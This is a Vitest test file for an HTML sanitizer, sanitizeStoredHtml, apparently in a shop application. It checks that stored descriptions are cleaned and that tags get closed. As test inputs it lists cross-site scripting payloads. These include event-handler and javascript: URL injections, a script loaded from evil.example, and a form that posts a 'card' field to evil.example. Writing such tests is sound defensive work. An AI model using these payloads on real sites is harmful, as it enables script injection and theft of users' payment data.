import { describe, expect, it } from 'vitest';
import { DEMO_CATEGORIES, DEMO_PRODUCTS } from '../db/seed/demo-data';
import { sanitizeStoredHtml } from './sanitize-html';

describe('sanitizeStoredHtml', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', ''],
    ['<img src=x onerror=alert(1)//', ''],
    ['<p>Before</p><script>alert(1)</script><p>after</p>', '<p>Before</p><p>after</p>'],
    ['<script src="https://evil.example/x.js"></script>text', 'text'],
    ['<<script>script>alert(1)<</script>/script>', '&lt;/script&gt;'],
    ['<a href="javascript:alert(1)">More</a>', 'More'],
    ['<svg onload=alert(1)><p>inside</p></svg>after', 'after'],
    ['<svg/onload=alert(1)>', ''],
    ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ''],
    ['<p style="background:url(javascript:alert(1))" onclick="alert(1)">Hi</p>', '<p>Hi</p>'],
    ['<iframe src="https://evil.example"></iframe>rest', 'rest'],
    ['<object data="x.swf"></object><embed src="x.swf">rest', 'rest'],
    ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
    ['<template><img src=x onerror=alert(1)></template>rest', 'rest'],
    ['<textarea><script>alert(1)</script></textarea>rest', 'rest'],
    ['<!-- <script>alert(1)</script> --><p>c</p>', '<p>c</p>'],
    ['<div class="x"><p>in a div</p></div>', '<p>in a div</p>'],
    ['<form action="https://evil.example"><input name="card"></form>Pay', 'Pay'],
  ])('makes %j safe: %j', (html, safe) => {
    expect(sanitizeStoredHtml(html)).toBe(safe);
  });

  it.each([
    ['<p>unclosed', '<p>unclosed</p>'],
    ['<p><strong>bold<em>both</p>', '<p><strong>bold<em>both</em></strong></p>'],
    ['<ul><li>one<li>two</ul>', '<ul><li>one</li><li>two</li></ul>'],
    ['<p>x</p', '<p>x</p>'],
  ])('closes every tag it keeps: %j', (html, closed) => {
    expect(sanitizeStoredHtml(html)).toBe(closed);
  });

  it('keeps the allowed tags, without their attributes, and escapes stray brackets in text', () => {
    expect(
      sanitizeStoredHtml(
        '<h3 id="a">Sizes</h3><h4 class="b">Small</h4><p>A &amp; B < C > D<br>E</p>' +
          '<ol><li><strong>One</strong></li><li><em>Two</em></li></ol>',
      ),
    ).toBe(
      '<h3>Sizes</h3><h4>Small</h4><p>A &amp; B &lt; C &gt; D<br />E</p>' +
        '<ol><li><strong>One</strong></li><li><em>Two</em></li></ol>',
    );
  });

  it('changes nothing on a second pass', () => {
    for (const { description } of [...DEMO_CATEGORIES, ...DEMO_PRODUCTS]) {
      const once = sanitizeStoredHtml(description);
      expect(sanitizeStoredHtml(once)).toBe(once);
    }
  });
});
